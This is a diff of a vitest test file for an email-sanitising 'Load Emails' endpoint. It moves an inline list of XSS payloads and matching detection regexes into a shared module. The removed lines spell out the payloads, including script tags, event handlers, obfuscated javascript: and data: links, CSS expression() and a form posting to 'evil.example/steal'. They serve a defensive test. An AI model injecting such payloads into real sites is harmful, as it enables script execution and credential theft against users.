@@ -3,29 +3,13 @@ import { join } from 'node:path';
 import { ensureAdmin } from '@tb/command-api';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestApp, type TestApp, TestClient } from '../testing.ts';
+import { XSS_DANGER as DANGER, XSS_PAYLOADS as PAYLOADS, XSS_KEPT_WORDS } from './xss-payloads.ts';
 
 /**
  * An email's HTML is a stranger's markup: every XSS payload in it comes out of Load Emails neutralised (no
  * script, no event handler, no javascript:/data: address, no style, frame, form or meta refresh), while the
  * readable text stays.
  */
-const PAYLOADS = [
-  '<script>alert("s1")</script>',
-  '<img src=x onerror="alert(\'s2\')">',
-  '<svg onload="alert(\'s3\')"><circle r="1"/></svg>',
-  '<a href="javascript:alert(\'s4\')">click me</a>',
-  '<a href="JaVaScRiPt&#58;alert(\'s5\')">click too</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
-  "<p style=\"background:url(javascript:alert('s6'));width:expression(alert('s7'))\">styled text</p>",
-  '<iframe src="https://evil.example/"></iframe>',
-  '<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<object data="evil.swf"></object><embed src="evil.swf">',
-  '<body onload="alert(\'s8\')"><div onclick="alert(\'s9\')">plain words</div></body>',
-  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert("s10")></style></mglyph></table></mtext></math>',
-  '<a href="https://example.com/portfolio">my portfolio</a>',
-];
 
 function eml(id: number, html: string): string {
   return [
@@ -63,28 +47,6 @@ beforeAll(async () => {
 });
 afterAll(() => app?.stop());
 
-const DANGER = [
-  /<script/i,
-  /<style/i,
-  /<iframe/i,
-  /<form/i,
-  /<input/i,
-  /<meta/i,
-  /<object/i,
-  /<embed/i,
-  /<svg/i,
-  /<math/i,
-  /<base/i,
-  /<link/i,
-  /<img/i,
-  /\son\w+\s*=/i,
-  /javascript:/i,
-  /data:/i,
-  /expression\(/i,
-  /style=/i,
-  /evil\.example/i,
-];
-
 describe('email HTML in Load Emails', () => {
   it('comes out with every XSS payload neutralised and the readable text kept', async () => {
     const answer = await admin.post('/api/admin/load-emails', {});
@@ -98,7 +60,7 @@ describe('email HTML in Load Emails', () => {
       for (const danger of DANGER) expect(email.body, `${email.subject}: ${email.body}`).not.toMatch(danger);
     }
     const all = emails.find((e) => e.subject.startsWith('Application 999'))?.body ?? '';
-    for (const words of ['click me', 'styled text', 'plain words', 'my portfolio']) expect(all).toContain(words);
+    for (const words of XSS_KEPT_WORDS) expect(all).toContain(words);
     expect(all).toContain('<a href="https://example.com/portfolio">my portfolio</a>');
     // The subject is plain text, shown as text by the web app: it is passed through, not interpreted.
     expect(emails.some((e) => e.subject.includes('<script>'))).toBe(true);
